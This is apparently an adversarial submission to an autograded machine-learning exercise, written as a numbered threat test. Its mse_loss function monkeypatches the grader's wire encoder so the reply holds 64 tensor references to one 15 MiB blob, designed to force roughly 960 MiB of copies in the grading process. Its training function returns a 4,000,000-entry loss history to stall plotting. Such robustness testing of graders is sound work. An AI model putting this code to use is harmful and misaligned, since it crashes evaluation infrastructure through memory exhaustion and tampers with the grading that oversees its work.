# %% mse_loss
import sys

_BLOB = 15 * 2**20          # one 15 MiB blob (3,932,160 float32 entries: under the grader's tensor limit)
_ENTRIES = 64               # entries that all point at it: a fresh copy each would cost the grader 960 MiB


def _forge_next_reply():
    """Threat 9 (issue 17): the reply of this call becomes a tuple of 64 tensors that all point
    at one 15 MiB blob, so that decoding it would copy the blob 64 times in the grading process."""
    wire = sys.modules["pcpt_portable.wire"]
    original = wire.encode_parts

    def forged(parts, **options):    # options: whatever the worker passes today (refer=)
        wire.encode_parts = original
        trees, blobs = original(parts, **options)
        entry = {"$tensor": {"dtype": "float32", "shape": [_BLOB // 4], "device": "cpu", "requires_grad": False,
                             "type": "Tensor", "blob": len(blobs)}}
        trees[0] = {"$tuple": [entry] * _ENTRIES}
        return trees, blobs + [bytes(_BLOB)]
    wire.encode_parts = forged


def mse_loss(y_pred, y):
    _forge_next_reply()
    return ((y_pred - y) ** 2).mean()

# %% train_linear_regression
def train_linear_regression(x, y, w0, b0, learning_rate=0.1, num_epochs=50):
    # The instructor's training, with a loss history of 4,000,000 entries instead of num_epochs:
    # nothing forged, yet the grader once built its plot data entry by entry (tens of seconds, GBs).
    w = w0.detach().clone()
    b = b0.detach().clone()
    for _ in range(num_epochs):
        grad_w, grad_b = linear_regression_gradients(x, y, w, b)
        w = w - learning_rate * grad_w
        b = b - learning_rate * grad_b
    return w, b, torch.linspace(1.0, 0.0, 4_000_000)
